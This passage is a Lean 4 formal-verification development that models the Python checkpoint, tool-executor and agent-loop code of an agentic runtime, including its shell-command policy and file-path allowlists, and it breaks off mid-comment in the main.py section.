import Mathlib

/-
  Verification development for the Hortator agentic runtime
  (src/runtime/agentic: checkpoint.py, loop.py, main.py, tool_executor.py).

  The Python sources are shallowly embedded below.  Python strings are Lean
  `String`s (logically a `List Char`); Python string primitives used by the
  code (`strip`, `split`, `startswith`, slicing) are re-implemented over the
  character list so every definition evaluates inside the kernel.  JSON
  values are the inductive `Json`; Python dicts of JSON values are
  association lists with first-match lookup (Python dict keys are unique).
  Python exceptions are `Except String`; side effects (subprocesses,
  filesystem writes) are recorded as explicit effect lists, with the
  external world (environment variables, subprocess results, filesystem
  contents) supplied as an explicit oracle record.
-/

namespace Hortator

/-! ### Python string primitives -/

/-- Python `str.strip()`: drop whitespace from both ends. -/
def pyStrip (s : String) : String :=
  String.mk (((s.data.dropWhile Char.isWhitespace).reverse.dropWhile
    Char.isWhitespace).reverse)

/-- Helper for `pySplitChar`. -/
def splitCharAux (c : Char) : List Char → List Char → List String
  | [], acc => [String.mk acc.reverse]
  | x :: xs, acc =>
    if x = c then String.mk acc.reverse :: splitCharAux c xs []
    else splitCharAux c xs (x :: acc)

/-- Python `s.split(sep)` for a one-character separator: keeps empty
segments, and `"".split(sep) == [""]`. -/
def pySplitChar (c : Char) (s : String) : List String :=
  splitCharAux c s.data []

/-- Helper for `pySplitWs`. -/
def wsSplitAux : List Char → List Char → List String
  | [], cur => if cur = [] then [] else [String.mk cur.reverse]
  | c :: cs, cur =>
    if c.isWhitespace then
      if cur = [] then wsSplitAux cs []
      else String.mk cur.reverse :: wsSplitAux cs []
    else wsSplitAux cs (c :: cur)

/-- Python `str.split()` with no argument: split on whitespace runs,
dropping empty segments. -/
def pySplitWs (s : String) : List String :=
  wsSplitAux s.data []

/-- Python `s.startswith(pre)` (note `s.startswith("")` is `True`). -/
def pyStartsWith (s pre : String) : Bool :=
  pre.data.isPrefixOf s.data

/-- Python `len(s)` (character count). -/
def pyLen (s : String) : Nat := s.data.length

/-- Python `s[:n]` for `n ≥ 0`. -/
def pySliceTo (s : String) (n : Nat) : String := String.mk (s.data.take n)

/-- Python `s[-n:]` for `n ≥ 1 ∧ n ≤ len(s)` (the only way the sources use
it). -/
def pySliceFromEnd (s : String) (n : Nat) : String :=
  String.mk (s.data.drop (s.data.length - n))

/-- Number of (possibly overlapping) occurrences of a nonempty pattern. -/
def occAux (p : List Char) : List Char → Nat
  | [] => 0
  | c :: rest => (if p.isPrefixOf (c :: rest) then 1 else 0) + occAux p rest

/-- Count occurrences of `pat` in `s`; used to state that a string
"mentions" a name. -/
def countOccur (pat s : String) : Nat := occAux pat.data s.data

/-- Python `"sep".join(parts)`. -/
def pyJoin (sep : String) : List String → String
  | [] => ""
  | [a] => a
  | a :: b :: rest => a ++ sep ++ pyJoin sep (b :: rest)

/-- Code points of the zero digit of every Unicode decimal-digit run
(category Nd): Python `int()` accepts any of these decades, mapping each
character to its offset from the decade start.  Generated from the CPython
Unicode tables (`str.isdecimal`, Unicode 14/15 era). -/
def pyDecimalZeros : List Nat :=
  [48, 1632, 1776, 1984, 2406, 2534, 2662, 2790, 2918, 3046, 3174, 3302,
   3430, 3558, 3664, 3792, 3872, 4160, 4240, 6112, 6160, 6470, 6608, 6784,
   6800, 6992, 7088, 7232, 7248, 42528, 43216, 43264, 43472, 43504, 43600,
   44016, 65296, 66720, 68912, 69734, 69872, 69942, 70096, 70384, 70736,
   70864, 71248, 71360, 71472, 71904, 72016, 72784, 73040, 73120, 92768,
   92864, 93008, 120782, 120792, 120802, 120812, 120822, 123200, 123632,
   125264, 130032]

/-- Decimal value of a character under Python `int()` (any Unicode
decimal digit), `none` for a non-digit. -/
def pyDigitVal (c : Char) : Option Nat :=
  (pyDecimalZeros.find? (fun z => z ≤ c.toNat && c.toNat ≤ z + 9)).map
    (fun z => c.toNat - z)

/-- Code-point ranges of the characters Python treats as whitespace
(`str.isspace`, the same predicate `int()` strips).  Generated from the
CPython Unicode tables. -/
def pySpaceRanges : List (Nat × Nat) :=
  [(9, 13), (28, 32), (133, 133), (160, 160), (5760, 5760), (8192, 8202),
   (8232, 8233), (8239, 8239), (8287, 8287), (12288, 12288)]

/-- Python whitespace predicate (Unicode, as used by `int()` and
`str.isspace`). -/
def pyIsSpace (c : Char) : Bool :=
  pySpaceRanges.any (fun r => r.1 ≤ c.toNat && c.toNat ≤ r.2)

/-- Whitespace stripping as `int()` performs it (Unicode whitespace, both
ends). -/
def pyIntStrip (s : String) : String :=
  String.mk (((s.data.dropWhile pyIsSpace).reverse.dropWhile
    pyIsSpace).reverse)

/-- Single-underscore-grouped digit check: Python `int(s)` accepts decimal
digits optionally grouped by single underscores (`"1_0"`), never leading,
trailing, or doubled. -/
def pyDigitsTail : List Char → Bool
  | [] => true
  | '_' :: c :: rest => (pyDigitVal c).isSome && pyDigitsTail rest
  | '_' :: [] => false
  | c :: rest => (pyDigitVal c).isSome && pyDigitsTail rest

/-- Digit-group validity for `pyIntParse` (nonempty, starts with a digit). -/
def pyDigitsOk : List Char → Bool
  | [] => false
  | c :: rest => (pyDigitVal c).isSome && pyDigitsTail rest

/-- Numeric value of a digit string, ignoring underscores. -/
def digitsVal : List Char → Nat → Nat
  | [], acc => acc
  | '_' :: rest, acc => digitsVal rest acc
  | c :: rest, acc => digitsVal rest (acc * 10 + (pyDigitVal c).getD 0)

/-- Python `int(s)`: optional surrounding Unicode whitespace, optional
ASCII sign, Unicode decimal digits with single underscore grouping;
`none` models the `ValueError` branch. -/
def pyIntParse (s : String) : Option Int :=
  match (pyIntStrip s).data with
  | '+' :: rest => if pyDigitsOk rest then some (digitsVal rest 0) else none
  | '-' :: rest => if pyDigitsOk rest then some (-(digitsVal rest 0 : Int)) else none
  | rest => if pyDigitsOk rest then some (digitsVal rest 0) else none

/-! ### JSON values and Python dicts -/

/-- JSON values as produced by `json.loads` (numbers restricted to the
integers the runtime actually exchanges). -/
inductive Json where
  | null
  | bool (b : Bool)
  | num (n : Int)
  | str (s : String)
  | arr (xs : List Json)
  | obj (fields : List (String × Json))

/-- A Python dict of JSON values: association list, unique keys,
first-match lookup. -/
abbrev Dict := List (String × Json)

/-- Python `d.get(k)` (no default): `none` models Python `None`. -/
def dictGet : Dict → String → Option Json
  | [], _ => none
  | (k, v) :: rest, key => if k = key then some v else dictGet rest key

/-- Python `d.get(k, dflt)`. -/
def pyGet (d : Dict) (k : String) (dflt : Json) : Json :=
  (dictGet d k).getD dflt

/-- Python `d.get(k)` with Python `None` represented as `Json.null`. -/
def pyGetN (d : Dict) (k : String) : Json :=
  (dictGet d k).getD .null

/-- Python truthiness of a JSON value. -/
def truthy : Json → Bool
  | .null => false
  | .bool b => b
  | .num n => decide (n ≠ 0)
  | .str s => decide (s ≠ "")
  | .arr xs => !xs.isEmpty
  | .obj fs => !fs.isEmpty

/-- Python `d.setdefault(k, v)`: leaves the dict unchanged when the key is
present, otherwise appends the pair (Python dicts append new keys at the
end). -/
def setdefault (d : Dict) (k : String) (v : Json) : Dict :=
  match dictGet d k with
  | some _ => d
  | none => d ++ [(k, v)]

/-- Approximate Python `str()` of a JSON value, used only inside log and
error message text that no theorem inspects field-by-field. -/
def pyStrJ : Json → String
  | .null => "None"
  | .bool true => "True"
  | .bool false => "False"
  | .num n => toString n
  | .str s => s
  | .arr _ => "[...]"
  | .obj _ => "\x7b...\x7d"

/-! ### checkpoint.py -/

/-- Observable state of the checkpoint file as seen by `load_checkpoint`:
the file may be missing, `open` may raise `OSError`, `json.load` may raise
`JSONDecodeError` (both caught by the source), reading may raise outside
the caught classes — `UnicodeDecodeError` on undecodable bytes (from the
internal `f.read()`) or `RecursionError` on deeply nested JSON, neither of
which `except (json.JSONDecodeError, OSError)` catches — or parsing yields
a JSON value. -/
inductive FileState where
  | missing
  | unreadable (e : String)
  | unparseable (e : String)
  | raising (e : String)
  | parsed (v : Json)

/-- Python `data.get("version") != 1` ... negated.  Python `==` against the
int `1` also accepts `True` (bool is an int subclass) — `1.0` is out of
scope since `Json.num` is integral. -/
def pyEqOne : Json → Bool
  | .num 1 => true
  | .bool true => true
  | _ => false

/-- Version-field acceptance in `load_checkpoint` (`None` when missing,
which is `!= 1`). -/
def versionAccepted (o : Option Json) : Bool :=
  match o with
  | some v => pyEqOne v
  | none => false

/-- Embeds `load_checkpoint` (checkpoint.py lines 12-28): `None` for a missing
file, a caught read/parse error (`JSONDecodeError`, `OSError`), a non-dict
payload, or a version field other than 1; otherwise the parsed dict.  A
read that raises outside the caught classes (`UnicodeDecodeError`,
`RecursionError`) propagates to the caller, modelled as the `Except`
error. -/
def load_checkpoint : FileState → Except String (Option Dict)
  | .missing => .ok none
  | .unreadable _ => .ok none
  | .unparseable _ => .ok none
  | .raising e => .error e
  | .parsed v =>
    match v with
    | .obj d =>
      if versionAccepted (dictGet d "version") then .ok (some d) else .ok none
    | _ => .ok none

/-- Embeds `save_checkpoint` (checkpoint.py lines 31-41): `state.setdefault
("version", 1)` then `json.dump`.  The result is the checkpoint file contents after a successful write (an `OSError` during the write is caught
and logged by the source; the round-trip claims assume the write lands). -/
def save_checkpoint (state : Dict) : FileState :=
  .parsed (.obj (setdefault state "version" (.num 1)))

/-! ### tool_executor.py -/

/-- Observable result of a `subprocess.run` call: the process completed
with an exit code and captured output, the call raised
`subprocess.TimeoutExpired`, or it raised some other exception. -/
inductive SubRes where
  | done (returncode : Int) (stdout stderr : String)
  | timedOut
  | raised (e : String)

/-- Side effects the dispatcher can perform, recorded in order. -/
inductive Eff where
  | cli (cmd : List String)
  | sh (command : String)
  | fsWrite (path : String)
deriving DecidableEq

/-- The external world as the dispatcher observes it: environment
variables, subprocess behaviour (`runCli` for argument-list calls to the
`hortator` CLI, `runSh` for `shell=True` commands), `json.loads`, and the
filesystem.  `writeFile` returns `some e` when `os.makedirs`/`open`/`write`
raises with message `e`. -/
structure World where
  env : String → Option String
  runCli : List String → SubRes
  runSh : String → SubRes
  parseJson : String → Option Json
  isFile : String → Bool
  readFile : String → Except String String
  writeFile : String → String → Option String

/-- The literal failure dict `{"success": False, "error": e}` used by every
failure return in tool_executor.py. -/
def failD (e : String) : Dict := [("success", .bool false), ("error", .str e)]

/-- Python `a or b` for strings (used for `stderr.strip() or fallback`). -/
def pyOrS (a b : String) : String := if a = "" then b else a

/-- Python `a or b` on JSON values (used for
`output.get("name") or output.get("task", "")`). -/
def pyOr (a b : Json) : Json := if truthy a then a else b

/-- Python `subprocess.run` rejects non-string argv entries with a `TypeError`;
the raise happens before any process is spawned. -/
def asArgStr : Json → Except String String
  | .str s => .ok s
  | v => .error ("TypeError: expected str, not " ++ pyStrJ v)

/-- Output truncation for `stdout`/`stderr`: `s[:half] + marker + s[-half:]` past the
threshold. -/
def truncMid (s : String) (limit half : Nat) : String :=
  if pyLen s > limit then
    pySliceTo s half ++ "\n... (truncated) ...\n" ++ pySliceFromEnd s half
  else s

/-- Argument-list construction of `_exec_spawn_task` (lines 52-65); raises
(`TypeError`) when a provided argument is not a string, before any process
spawns. -/
def buildSpawnCmd (args : Dict) (parent_name : String) (prompt : Json) :
    Except String (List String) := do
  let p ← asArgStr prompt
  let cmd := ["hortator", "spawn", "--prompt", p, "--parent", parent_name]
  let cmd ← if truthy (pyGetN args "role") then do
      let r ← asArgStr (pyGetN args "role"); pure (cmd ++ ["--role", r])
    else pure cmd
  let cmd ← if truthy (pyGetN args "tier") then do
      let t ← asArgStr (pyGetN args "tier"); pure (cmd ++ ["--tier", t])
    else pure cmd
  let cmd ← if truthy (pyGetN args "capabilities") then do
      let cs ← asArgStr (pyGetN args "capabilities")
      pure (cmd ++ ["--capabilities", cs])
    else pure cmd
  let cmd := if truthy (pyGet args "wait" (.bool false)) then cmd ++ ["--wait"] else cmd
  pure (cmd ++ ["-o", "json"])

/-- The success dict of `_exec_spawn_task` (lines 83-89). -/
def spawnSuccessDict (output : Dict) (wait : Bool) : Dict :=
  [("success", .bool true),
   ("task_name", pyOr (pyGetN output "name") (pyGet output "task" (.str ""))),
   ("phase", pyGet output "phase" (.str "")),
   ("output", pyGet output "output" (.str "")),
   ("async", .bool (!wait))]

/-- Embeds `_exec_spawn_task` (lines 46-89). -/
def exec_spawn_task (w : World) (args : Dict) (parent_name : String) :
    Except String Dict × List Eff :=
  let prompt := pyGet args "prompt" (.str "")
  if !truthy prompt then (.ok (failD "prompt is required"), []) else
  let wait := truthy (pyGet args "wait" (.bool false))
  match buildSpawnCmd args parent_name prompt with
  | .error e => (.error e, [])
  | .ok cmd =>
    match w.runCli cmd with
    | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
    | .raised e => (.error e, [.cli cmd])
    | .done rc out err =>
      if rc != 0 then
        (.ok (failD (pyOrS (pyStrip err) ("exit code " ++ toString rc))), [.cli cmd])
      else
        match w.parseJson out with
        | some (.obj d) => (.ok (spawnSuccessDict d wait), [.cli cmd])
        | some _ => (.error "AttributeError: get on non-dict output", [.cli cmd])
        | none => (.ok (spawnSuccessDict [("raw", .str (pyStrip out))] wait), [.cli cmd])

/-- The success dict of `_exec_check_status` (lines 111-116). -/
def statusSuccessDict (tn : String) (output : Dict) : Dict :=
  [("success", .bool true), ("name", .str tn),
   ("phase", pyGet output "phase" (.str "Unknown")),
   ("message", pyGet output "message" (.str ""))]

/-- Embeds `_exec_check_status` (lines 92-116). -/
def exec_check_status (w : World) (args : Dict) : Except String Dict × List Eff :=
  let task_name := pyGet args "task_name" (.str "")
  if !truthy task_name then (.ok (failD "task_name is required"), []) else
  match asArgStr task_name with
  | .error e => (.error e, [])
  | .ok tn =>
    let cmd := ["hortator", "status", tn, "-o", "json"]
    match w.runCli cmd with
    | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
    | .raised e => (.error e, [.cli cmd])
    | .done rc out err =>
      if rc != 0 then (.ok (failD (pyStrip err)), [.cli cmd])
      else
        match w.parseJson out with
        | some (.obj d) => (.ok (statusSuccessDict tn d), [.cli cmd])
        | some _ => (.error "AttributeError: get on non-dict output", [.cli cmd])
        | none => (.ok (statusSuccessDict tn [("raw", .str (pyStrip out))]), [.cli cmd])

/-- Embeds `_exec_get_result` (lines 119-143). -/
def exec_get_result (w : World) (args : Dict) : Except String Dict × List Eff :=
  let task_name := pyGet args "task_name" (.str "")
  if !truthy task_name then (.ok (failD "task_name is required"), []) else
  match asArgStr task_name with
  | .error e => (.error e, [])
  | .ok tn =>
    let cmd := ["hortator", "result", tn, "-o", "json"]
    match w.runCli cmd with
    | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
    | .raised e => (.error e, [.cli cmd])
    | .done rc out err =>
      if rc != 0 then (.ok (failD (pyStrip err)), [.cli cmd])
      else
        match w.parseJson out with
        | some (.obj d) =>
          (.ok [("success", .bool true), ("name", .str tn),
                ("phase", pyGet d "phase" (.str "")),
                ("output", pyGet d "output" (.str ""))], [.cli cmd])
        | some _ => (.error "AttributeError: get on non-dict output", [.cli cmd])
        | none => (.ok [("success", .bool true), ("output", .str (pyStrip out))], [.cli cmd])

/-- Embeds `_exec_cancel_task` (lines 146-160). -/
def exec_cancel_task (w : World) (args : Dict) : Except String Dict × List Eff :=
  let task_name := pyGet args "task_name" (.str "")
  if !truthy task_name then (.ok (failD "task_name is required"), []) else
  match asArgStr task_name with
  | .error e => (.error e, [])
  | .ok tn =>
    let cmd := ["hortator", "cancel", tn]
    match w.runCli cmd with
    | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
    | .raised e => (.error e, [.cli cmd])
    | .done rc _ err =>
      if rc != 0 then (.ok (failD (pyStrip err)), [.cli cmd])
      else (.ok [("success", .bool true), ("message", .str ("Task " ++ tn ++ " cancelled"))], [.cli cmd])

/-- Embeds `_exec_checkpoint_and_wait` (lines 165-176): pure sentinel, no side
effects; the loop never consumes the sentinel (spec §9 open question). -/
def exec_checkpoint_and_wait (args : Dict) : Except String Dict × List Eff :=
  let summary := pyGet args "summary" (.str "")
  (.ok [("success", .bool true), ("_checkpoint_and_wait", .bool true),
        ("summary", summary)], [])

/-- Embeds `_exec_list_roles` (lines 181-195). -/
def exec_list_roles (w : World) (_args : Dict) : Except String Dict × List Eff :=
  let cmd := ["hortator", "roles", "list", "-o", "json"]
  match w.runCli cmd with
  | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
  | .raised e => (.error e, [.cli cmd])
  | .done rc out err =>
    if rc != 0 then (.ok (failD (pyStrip err)), [.cli cmd])
    else
      match w.parseJson out with
      | some v => (.ok [("success", .bool true), ("roles", v)], [.cli cmd])
      | none => (.ok (failD "Failed to parse roles output"), [.cli cmd])

/-- Embeds `_exec_describe_role` (lines 198-216). -/
def exec_describe_role (w : World) (args : Dict) : Except String Dict × List Eff :=
  let name := pyGet args "name" (.str "")
  if !truthy name then (.ok (failD "name is required"), []) else
  match asArgStr name with
  | .error e => (.error e, [])
  | .ok n =>
    let cmd := ["hortator", "roles", "describe", n, "-o", "json"]
    match w.runCli cmd with
    | .timedOut => (.error "subprocess.TimeoutExpired", [.cli cmd])
    | .raised e => (.error e, [.cli cmd])
    | .done rc out err =>
      if rc != 0 then (.ok (failD (pyStrip err)), [.cli cmd])
      else
        match w.parseJson out with
        | some v => (.ok [("success", .bool true), ("role", v)], [.cli cmd])
        | none => (.ok (failD "Failed to parse role output"), [.cli cmd])

/-- Base-command extraction of `_check_shell_command_policy` (lines
235-243): first word of the command and of each pipe segment. -/
def extractBaseCommands (command : String) : List String :=
  (pySplitChar '|' command).foldr
    (fun part acc =>
      let stripped := pyStrip part
      if stripped ≠ "" then
        let base_cmd := (pySplitWs stripped).headD ""
        if base_cmd ≠ "" then base_cmd :: acc else acc
      else acc) []

/-- The check loop of `_check_shell_command_policy` (lines 245-255). -/
def policyScan (command : String) (allowed denied : List String) :
    List String → Option String
  | [] => none
  | base_cmd :: rest =>
    if allowed ≠ [] ∧ base_cmd ∉ allowed then
      some ("Command \x27" ++ base_cmd ++ "\x27 is not allowed by policy")
    else if denied.any (fun d => pyStartsWith (pyStrip command) d || base_cmd == d) then
      some ("Command \x27" ++ base_cmd ++ "\x27 is denied by policy")
    else policyScan command allowed denied rest

/-- The comma-separated policy lists: `[c.strip() for c in raw.split(",")
if c.strip()]`. -/
def policyList (raw : String) : List String :=
  if raw ≠ "" then
    (pySplitChar ',' raw).foldr
      (fun c acc => let t := pyStrip c; if t ≠ "" then t :: acc else acc) []
  else []

/-- Embeds `_check_shell_command_policy` (lines 221-255).  NOTE: nothing in
tool_executor.py calls this function; `_exec_run_shell` re-implements a
weaker inline check instead. -/
def check_shell_command_policy (env : String → Option String) (command : String) :
    Option String :=
  let allowed_raw := (env "HORTATOR_ALLOWED_COMMANDS").getD ""
  let denied_raw := (env "HORTATOR_DENIED_COMMANDS").getD ""
  if allowed_raw = "" ∧ denied_raw = "" then none
  else
    policyScan command (policyList allowed_raw) (policyList denied_raw)
      (extractBaseCommands command)

/-- Embeds `_exec_run_shell` (lines 258-302).  Its policy check looks only at the
first word of the whole command (`command.strip().split()[0]`) and never
splits on pipes; `allowed`/`denied` come from a plain `split(",")` with no
entry stripping, and the truthiness test on `allowed` itself always
passes because `split` never yields an empty list, leaving only the
comparison against the singleton list of the empty string. -/
def exec_run_shell (w : World) (args : Dict) : Except String Dict × List Eff :=
  let command := pyGet args "command" (.str "")
  if !truthy command then (.ok (failD "command is required"), []) else
  match command with
  | .str c =>
    let base_cmd := if pyStrip c ≠ "" then (pySplitWs (pyStrip c)).headD "" else ""
    let allowed := pySplitChar ',' ((w.env "HORTATOR_ALLOWED_COMMANDS").getD "")
    let denied := pySplitChar ',' ((w.env "HORTATOR_DENIED_COMMANDS").getD "")
    if allowed ≠ [""] ∧ base_cmd ∉ allowed then
      (.ok (failD ("Command \x27" ++ base_cmd ++ "\x27 not in allowed list")), [])
    else if denied ≠ [""] ∧ base_cmd ∈ denied then
      (.ok (failD ("Command \x27" ++ base_cmd ++ "\x27 is denied by policy")), [])
    else
      let tmo := pyGet args "timeout" (.num 120)
      match w.runSh c with
      | .timedOut =>
        (.ok [("success", .bool false),
              ("error", .str ("Command timed out after " ++ pyStrJ tmo ++ "s")),
              ("exit_code", .num (-1))], [.sh c])
      | .raised e => (.error e, [.sh c])
      | .done rc out err =>
        (.ok [("success", .bool (rc == 0)), ("exit_code", .num rc),
              ("stdout", .str (truncMid out 10000 5000)),
              ("stderr", .str (truncMid err 5000 2500))], [.sh c])
  | _ => (.error "AttributeError: strip on non-str command", [])

/-- Embeds `ALLOWED_READ_PREFIXES` (line 307). -/
def ALLOWED_READ_PREFIXES : List String :=
  ["/inbox/", "/outbox/", "/workspace/", "/memory/", "/prior/"]

/-- Embeds `ALLOWED_WRITE_PREFIXES` (line 308). -/
def ALLOWED_WRITE_PREFIXES : List String :=
  ["/outbox/", "/workspace/", "/memory/"]

/-- Python `repr` of a list of strings, used only inside denial messages. -/
def listReprS (l : List String) : String :=
  "[" ++ pyJoin ", " (l.map (fun s => "\x27" ++ s ++ "\x27")) ++ "]"

/-- Embeds `_exec_read_file` (lines 311-334).  It performs no filesystem
mutation, so its effect list is always empty. -/
def exec_read_file (w : World) (args : Dict) : Except String Dict × List Eff :=
  let path := pyGet args "path" (.str "")
  if !truthy path then (.ok (failD "path is required"), []) else
  match path with
  | .str p =>
    if !(ALLOWED_READ_PREFIXES.any (fun q => pyStartsWith p q)) then
      (.ok (failD ("Read access denied: " ++ p ++ ". Allowed prefixes: " ++
        listReprS ALLOWED_READ_PREFIXES)), [])
    else if !w.isFile p then
      (.ok (failD ("File not found: " ++ p)), [])
    else
      match w.readFile p with
      | .error e => (.ok (failD ("Read failed: " ++ e)), [])
      | .ok content =>
        (.ok [("success", .bool true), ("path", .str p),
              ("content", .str (truncMid content 50000 25000))], [])
  | _ => (.error "AttributeError: startswith on non-str path", [])

/-- Embeds `_exec_write_file` (lines 337-355).  The prefix check precedes the
`try` block, so a denied path records no filesystem effect; inside the
`try`, `os.makedirs` plus the write attempt are one recorded `fsWrite`
effect and any raise is caught into a `Write failed` outcome. -/
def exec_write_file (w : World) (args : Dict) : Except String Dict × List Eff :=
  let path := pyGet args "path" (.str "")
  let content := pyGet args "content" (.str "")
  if !truthy path then (.ok (failD "path is required"), []) else
  match path with
  | .str p =>
    if !(ALLOWED_WRITE_PREFIXES.any (fun q => pyStartsWith p q)) then
      (.ok (failD ("Write access denied: " ++ p ++ ". Allowed prefixes: " ++
        listReprS ALLOWED_WRITE_PREFIXES)), [])
    else
      match content with
      | .str cstr =>
        match w.writeFile p cstr with
        | some e => (.ok (failD ("Write failed: " ++ e)), [.fsWrite p])
        | none =>
          (.ok [("success", .bool true), ("path", .str p),
                ("bytes_written", .num (pyLen cstr))], [.fsWrite p])
      | _ =>
        (.ok (failD "Write failed: TypeError: write() argument must be str"),
         [.fsWrite p])
  | _ => (.error "AttributeError: startswith on non-str path", [])

/-- The `match name` dispatch inside the `try` block of `execute_tool`
(lines 16-39). -/
def dispatchTool (w : World) (name : String) (args : Dict)
    (task_name _task_ns : String) : Except String Dict × List Eff :=
  if name = "spawn_task" then exec_spawn_task w args task_name
  else if name = "check_status" then exec_check_status w args
  else if name = "get_result" then exec_get_result w args
  else if name = "cancel_task" then exec_cancel_task w args
  else if name = "checkpoint_and_wait" then exec_checkpoint_and_wait args
  else if name = "list_roles" then exec_list_roles w args
  else if name = "describe_role" then exec_describe_role w args
  else if name = "run_shell" then exec_run_shell w args
  else if name = "read_file" then exec_read_file w args
  else if name = "write_file" then exec_write_file w args
  else (.ok (failD ("Unknown tool: " ++ name)), [])

/-- Embeds `execute_tool` (lines 14-41): the dispatch plus the
`except Exception` boundary that converts any handler raise into the
structured failure dict.  Totality of this function is the embedding of
"never raises past the boundary". -/
def execute_tool (w : World) (name : String) (args : Dict)
    (task_name _task_ns : String) : Dict × List Eff :=
  match dispatchTool w name args task_name _task_ns with
  | (.ok d, effs) => (d, effs)
  | (.error e, effs) => (failD e, effs)

/-! ### loop.py

Control flow of the loop depends only on: the kill flag, the parsed token
budget, the accumulated usage, and per model response the reported usage, finish
reason, content and tool-call presence.  Tool execution results, message
appending and the prompt-hash log line never feed back into control flow
(the `_checkpoint_and_wait` sentinel is never consumed — spec §9), so the
model is an oracle indexed by the call number and the conversation state
is not carried.  Every iteration that passes its checks performs exactly
one model call, so the call index equals the iteration index. -/

/-- Embeds `MAX_ITERATIONS` (loop.py line 22). -/
def MAX_ITERATIONS : Nat := 200

/-- Usage object `response.usage` with `prompt_tokens or 0` / `completion_tokens or 0`
semantics. -/
structure Usage where
  prompt_tokens : Option Nat
  completion_tokens : Option Nat

/-- One model response: reported usage (absent when the provider returned
none), the finish reason string, `message.content` (`None` or text), and
whether `message.tool_calls` is a nonempty list. -/
structure ModelTurn where
  usage : Option Usage
  finish_reason : String
  content : Option String
  tool_calls : Bool

/-- A `litellm.completion` call either returns a response or raises. -/
inductive LlmResult where
  | ok (t : ModelTurn)
  | exc (e : String)

/-- Result of the loop (`LoopResult`, loop.py lines 25-33), instrumented
with the number of `litellm.completion` invocations made and whether
`_save_waiting_checkpoint` ran before returning. -/
structure LoopOutcome where
  status : String
  output : String
  tokens_in : Nat
  tokens_out : Nat
  model_calls : Nat
  checkpoint_saved : Bool

/-- Budget parsing (loop.py lines 57-62): `budget.get("maxTokens")`, with
a string coerced via `int(...)` and a `ValueError` turning it into
`None`. -/
inductive BudgetField where
  | absent
  | num (n : Int)
  | str (s : String)

/-- Value of `max_tokens_budget` after the parse block. -/
def parseMaxTokens : BudgetField → Option Int
  | .absent => none
  | .num n => some n
  | .str s => pyIntParse s

/-- The guard `max_tokens_budget and (total_in + total_out) >=
max_tokens_budget` (line 79): Python truthiness makes `None` and `0` skip
the check entirely. -/
def budgetHit : Option Int → Nat → Bool
  | none, _ => false
  | some n, tot => if n = 0 then false else decide ((n : Int) ≤ (tot : Int))

/-- The f-string of the budget-exceeded return (loop.py lines 86-87). -/
def budgetMsg (mb : Option Int) (tot : Nat) : String :=
  "Budget exceeded: " ++ toString tot ++ " tokens used (limit: " ++
    (match mb with | some n => toString n | none => "") ++ ")"

/-- Input tokens reported by one call (`usage.prompt_tokens or 0`,
nothing tracked when `usage` is falsy or the call raised). -/
def turnIn : LlmResult → Nat
  | .ok t => match t.usage with
    | some u => u.prompt_tokens.getD 0
    | none => 0
  | .exc _ => 0

/-- Output tokens reported by one call. -/
def turnOut : LlmResult → Nat
  | .ok t => match t.usage with
    | some u => u.completion_tokens.getD 0
    | none => 0
  | .exc _ => 0

/-- Cumulative reported input tokens after the first `n` calls. -/
def inSum (llm : Nat → LlmResult) : Nat → Nat
  | 0 => 0
  | n + 1 => inSum llm n + turnIn (llm n)

/-- Cumulative reported output tokens after the first `n` calls. -/
def outSum (llm : Nat → LlmResult) : Nat → Nat
  | 0 => 0
  | n + 1 => outSum llm n + turnOut (llm n)

/-- Cumulative reported usage (input plus output) after `n` calls. -/
def usageS (llm : Nat → LlmResult) (n : Nat) : Nat :=
  inSum llm n + outSum llm n

/-- Whether a response takes the tool-call branch: not a `stop`/`end_turn`
finish, and either `finish_reason == "tool_calls"` or the message carries
tool calls (loop.py lines 134, 145). -/
def isToolTurn (t : ModelTurn) : Bool :=
  !(t.finish_reason == "stop" || t.finish_reason == "end_turn") &&
    (t.finish_reason == "tool_calls" || t.tool_calls)

/-- The body of `agentic_loop` (loop.py lines 64-211).  `fuel` counts the
iterations left of the `for iteration in range(MAX_ITERATIONS)` loop;
`calls` is the number of model calls attempted so far (equal to the
iteration index at the top of each iteration); `tin`/`tout` are
`total_in`/`total_out`. -/
def loopFrom (llm : Nat → LlmResult) (is_killed : Nat → Bool)
    (max_tokens_budget : Option Int) :
    Nat → Nat → Nat → Nat → LoopOutcome
  | 0, calls, tin, tout =>
    ⟨"failed", "Iteration limit reached (" ++ toString MAX_ITERATIONS ++ ")",
      tin, tout, calls, true⟩
  | fuel + 1, calls, tin, tout =>
    if is_killed calls then
      ⟨"failed", "Task killed by SIGTERM", tin, tout, calls, true⟩
    else if budgetHit max_tokens_budget (tin + tout) then
      ⟨"budget_exceeded", budgetMsg max_tokens_budget (tin + tout),
        tin, tout, calls, true⟩
    else
      match llm calls with
      | .exc e => ⟨"failed", "LLM call failed: " ++ e, tin, tout, calls + 1, false⟩
      | .ok t =>
        let tin2 := tin + turnIn (.ok t)
        let tout2 := tout + turnOut (.ok t)
        if t.finish_reason == "stop" || t.finish_reason == "end_turn" then
          ⟨"completed", t.content.getD "", tin2, tout2, calls + 1, false⟩
        else if t.finish_reason == "tool_calls" || t.tool_calls then
          loopFrom llm is_killed max_tokens_budget fuel (calls + 1) tin2 tout2
        else if t.content.getD "" ≠ "" then
          ⟨"completed", t.content.getD "", tin2, tout2, calls + 1, false⟩
        else
          ⟨"failed", "Unexpected stop reason: " ++ t.finish_reason,
            tin2, tout2, calls + 1, false⟩

/-- Embeds `agentic_loop` (loop.py lines 36-211) from a fresh start. -/
def agentic_loop (llm : Nat → LlmResult) (is_killed : Nat → Bool)
    (budget : BudgetField) : LoopOutcome :=
  loopFrom llm is_killed (parseMaxTokens budget) MAX_ITERATIONS 0 0 0

/-! ### main.py

The parts of `main` that decide which records get written and how the
process exits are modelled, including every operation on task-derived or
environment-derived values that can raise an uncaught exception before
`write_result` runs: the `task_id` slice (line 157), the model-endpoint
access (lines 176-178), `wait_for_presidio` (lines 109-125), the
checkpoint read (line 192), `build_tools` (tools.py lines 9-28),
`build_system_prompt` (prompt.py lines 21-83), `_build_resume_context`
(lines 259-291) and the budget access at the loop entry (loop.py lines
57-79).  The model-call loop itself is abstracted as the provided
`RunOutcome`: its remaining operations are total (`execute_tool` never
raises, model-transport and JSON-argument failures are caught in
loop.py), and provider response objects are assumed well-formed.
`load_child_results` catches per-file errors itself, and `report_to_crd`
